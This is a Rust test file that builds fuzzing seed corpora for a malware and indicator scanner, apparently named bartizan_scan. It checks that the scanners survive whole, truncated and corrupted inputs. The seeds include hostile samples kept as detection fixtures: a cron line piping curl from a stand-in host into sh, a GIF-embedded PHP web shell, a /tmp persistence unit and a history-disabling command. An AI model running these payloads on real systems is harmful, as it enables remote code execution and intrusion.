//! The corpora of the fuzz targets, on stable: each file as it is, cut off, and damaged in ways that are the same every time.

use std::fs;
use std::path::PathBuf;

use bartizan_scan::fuzz::{TARGETS, Target};
use bartizan_scan::self_test::{Elf, Written, elf, event_log, hive};

use crate::hive_logs;
use crate::hostile_bytes::{tar, zip};
use crate::tree::pe;

/// Places at which each seed is cut, and bytes that are changed.
const DAMAGES: usize = 48;
/// The same for what a fuzzer added: it comes from damage.
const DAMAGES_GROWN: usize = 3;

fn folder() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../fuzz")
}

/// Where a corpus begins; a fuzzer grows it from here.
fn seeds(target: &str) -> Vec<(&'static str, Vec<u8>)> {
    let first = |byte: u8, bytes: &[u8]| [&[byte], bytes].concat();
    match target {
        "scan_pack" => vec![
            ("empty", br#"{"v":1,"name":"x","version":"1","made":0,"title":"x"}"#.to_vec()),
            ("self-test", include_bytes!("../../packs/self-test.pack").to_vec()),
        ],
        "scan_file" => vec![
            ("task", first(0, b"<Task><Exec><Command>a</Command><Arguments>b</Arguments></Exec></Task>")),
            ("program-in-base64", first(0, b"-----BEGIN CERTIFICATE-----\nTVqQAAMAAAAEAAAA\n")),
            ("cron", first(1, b"* * * * * root curl http://x.example | sh\n")),
            ("keys", first(2, b"ssh-ed25519 AAAA x\n")),
            ("unit", first(3, b"[Service]\nExecStart=/tmp/.x\n")),
            ("history", first(4, b"unset HISTFILE\n")),
            ("preload", first(5, b"/tmp/x.so\n")),
            ("zip", first(7, &zip())),
            ("tar", first(7, &tar())),
            ("picture", first(7, b"GIF89a<?php system($_GET['c']); ?>")),
        ],
        "scan_hive" => {
            let values = [("Start", "a.exe")];
            let closed = hive(&[("Microsoft\\Windows\\CurrentVersion\\Run", &values)]);
            let open = hive_logs::open(closed.clone());
            let log = hive_logs::log(7, &closed);
            let with = |hive: &[u8], log: &[u8]| {
                [&u32::try_from(hive.len()).unwrap().to_le_bytes()[..], hive, log].concat()
            };
            vec![("closed", with(&closed, b"")), ("open-with-log", with(&open, &log))]
        }
        "scan_program" => vec![
            ("pe", pe("CertUtil.exe", b"overlay")),
            ("elf-library", elf(&Elf { soname: Some("libx.so.1"), has_symbols: true, ..Elf::default() })),
            ("elf-program", elf(&Elf { interpreter: Some("/lib64/ld.so"), code: b"code", ..Elf::default() })),
        ],
        "scan_web_log" => vec![
            ("iis", b"#Software: x\n#Fields: date time c-ip cs-method cs-uri-stem sc-status\n2021-07-02 16:00:00 192.0.2.7 POST /dl.asp 200\n".to_vec()),
            ("combined", b"192.0.2.7 - - [02/Jul/2021:16:30:00 +0000] \"GET /?a HTTP/1.1\" 200 1 \"-\" \"x\"\n".to_vec()),
            ("caddy", br#"{"ts":1625241600.5,"request":{"remote_ip":"192.0.2.7","method":"GET","uri":"/a?b","headers":{"User-Agent":["x"]}},"status":200}"#.to_vec()),
        ],
        "scan_event_log" => {
            let data = [("TargetUserName", "alice")];
            let event = Written { record: 1, at: 1_625_241_600, channel: "Security", provider: "x", event: 4624, data: &data };
            vec![("two", event_log(&[event, Written { record: 3, ..event }]))]
        }
        "scan_import" => vec![
            ("csv", first(0, b"sha256,name\n33bc14d231a4afaa18f06513766d5f69d8b88f1e697cd127d24fb4b72ad44c7a,x\n")),
            ("misp", first(1, br#"{"Event":{"info":"x","Attribute":[{"type":"ip-dst","value":"192.0.2.7"}]}}"#)),
            ("openioc", first(2, br#"<ioc id="x"><short_description>x</short_description><definition><Indicator operator="OR"><IndicatorItem condition="is"><Context document="FileItem" search="FileItem/Md5sum"/><Content type="md5">900150983cd24fb0d6963f7d28e17f72</Content></IndicatorItem></Indicator></definition></ioc>"#)),
            ("stix", first(3, br#"{"type":"bundle","objects":[{"type":"indicator","name":"x","pattern_type":"stix","pattern":"[file:hashes.MD5 = '900150983cd24fb0d6963f7d28e17f72']","valid_from":"2021-07-02T00:00:00Z"}]}"#)),
        ],
        "scan_sigma" => vec![
            ("rule-and-event", b"title: x\nlogsource:\n    category: process_creation\ndetection:\n    s:\n        CommandLine|contains|windash: ' -decode'\n    condition: s\n\0{\"CommandLine\":\"certutil /decode a\"}".to_vec()),
        ],
        "scan_yara" => vec![
            ("strings", b"rule A { strings: $a = \"text\" wide ascii nocase $b = /a.{1,3}b/ $c = { 4d 5a ?? [2-4] 90 } condition: filesize < 1KB and any of them }".to_vec()),
        ],
        other => panic!("{other} has no seeds: write one for it"),
    }
}

/// `BARTIZAN_WRITE_CORPUS=1` adds seeds that are missing. It never overwrites: old bytes must keep reading.
fn corpus(target: &Target) -> Vec<(PathBuf, Vec<u8>)> {
    let folder = folder().join("corpus").join(target.name);
    if std::env::var_os("BARTIZAN_WRITE_CORPUS").is_some() {
        fs::create_dir_all(&folder).unwrap();
        for (name, bytes) in seeds(target.name) {
            if !folder.join(name).exists() {
                fs::write(folder.join(name), bytes).unwrap();
            }
        }
    }
    let files =
        fs::read_dir(&folder).unwrap_or_else(|error| panic!("{}: {error}", folder.display()));
    let mut files: Vec<_> = files.map(|entry| entry.unwrap().path()).collect();
    files.sort();
    files.into_iter().map(|path| (path.clone(), fs::read(path).unwrap())).collect()
}

#[test]
fn every_target_has_its_line_and_a_corpus_with_its_seeds() {
    let manifest = fs::read_to_string(folder().join("Cargo.toml")).unwrap();
    for target in TARGETS {
        let line =
            fs::read_to_string(folder().join(format!("fuzz_targets/{}.rs", target.name))).unwrap();
        assert!(line.contains("fuzz_target!") && line.contains("TARGETS"), "{}", target.name);
        assert!(manifest.contains(&format!("name = \"{}\"", target.name)), "{}", target.name);
        let corpus = corpus(&target);
        for (name, bytes) in seeds(target.name) {
            let kept = corpus.iter().find(|(path, _)| path.ends_with(name));
            assert!(kept.is_some(), "{}: run with BARTIZAN_WRITE_CORPUS=1 for {name}", target.name);
            assert!(!bytes.is_empty());
        }
    }
}

#[test]
fn no_file_of_a_corpus_ends_a_scan_whole_cut_or_damaged() {
    for target in TARGETS {
        for (path, bytes) in corpus(&target) {
            (target.run)(&bytes);
            let is_grown = path.file_name().unwrap().to_string_lossy().starts_with("grown-");
            let damages = if is_grown { DAMAGES_GROWN } else { DAMAGES };
            for number in 0..damages {
                (target.run)(&bytes[..bytes.len() * number / damages]);
                let mut damaged = bytes.clone();
                // A place and a value that differ every time and are the same in every run.
                let place = number.wrapping_mul(2_654_435_761) >> 7;
                if let Some(byte) = damaged.get_mut(place % bytes.len().max(1)) {
                    *byte = byte.wrapping_add(u8::try_from(number).unwrap() | 1);
                }
                (target.run)(&damaged);
            }
        }
    }
}
